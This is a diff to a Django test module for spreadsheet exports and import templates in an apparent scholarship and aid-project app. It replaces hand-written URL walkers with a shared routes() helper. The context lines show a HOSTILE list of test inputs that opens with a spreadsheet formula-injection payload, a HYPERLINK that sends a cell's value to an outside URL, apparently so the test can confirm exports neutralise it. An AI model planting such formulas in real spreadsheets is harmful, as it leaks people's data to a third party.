@@ -20,7 +20,7 @@ import openpyxl
 import pytest
 import time_machine
 from django.conf import settings
-from django.urls import URLResolver, get_resolver, reverse
+from django.urls import reverse
 from openpyxl import Workbook
 
 from aid_projects.models import AidProject, Commune
@@ -43,6 +43,7 @@ from tests.scholarships.factories import (
     StudentFactory,
     YearlyBudgetFactory,
 )
+from tests.urlmap import routes
 
 HOSTILE = [
     '=HYPERLINK("http://example.org/?leak="&B3,"Bấm xem")',
@@ -288,17 +289,10 @@ def test_every_module_that_makes_a_workbook_is_read_back_here():
 def list_exports() -> dict:
     """URL name → RecordPages of every list page (each offers ?export=xlsx), from the URL configuration."""
     found = {}
-
-    def walk(patterns, namespace: str):
-        for pattern in patterns:
-            if isinstance(pattern, URLResolver):
-                walk(pattern.url_patterns, f"{namespace}{pattern.namespace}:" if pattern.namespace else namespace)
-                continue
-            view_class = getattr(pattern.callback, "view_class", None)
-            if view_class is not None and issubclass(view_class, RecordListView):
-                found[f"{namespace}{pattern.name}"] = pattern.callback.view_initkwargs["pages"]
-
-    walk(get_resolver().url_patterns, "")
+    for _route, name, pattern in routes():
+        view_class = getattr(pattern.callback, "view_class", None)
+        if view_class is not None and issubclass(view_class, RecordListView):
+            found[name] = pattern.callback.view_initkwargs["pages"]
     return found
 
 
@@ -519,16 +513,7 @@ def import_template_urls() -> list[str]:
 
 
 def test_every_import_template_url_is_checked_here():
-    names = set()
-
-    def walk(patterns, namespace: str):
-        for pattern in patterns:
-            if isinstance(pattern, URLResolver):
-                walk(pattern.url_patterns, f"{namespace}{pattern.namespace}:" if pattern.namespace else namespace)
-            elif pattern.name and "template" in pattern.name:
-                names.add(f"{namespace}{pattern.name}")
-
-    walk(get_resolver().url_patterns, "")
+    names = {name for _route, name, _pattern in routes() if name and "template" in name.split(":")[-1]}
     assert names == {"scholarships:import_template", "aid_projects:import_template"}
     assert len(import_template_urls()) == len(imports.REGISTRY)
 
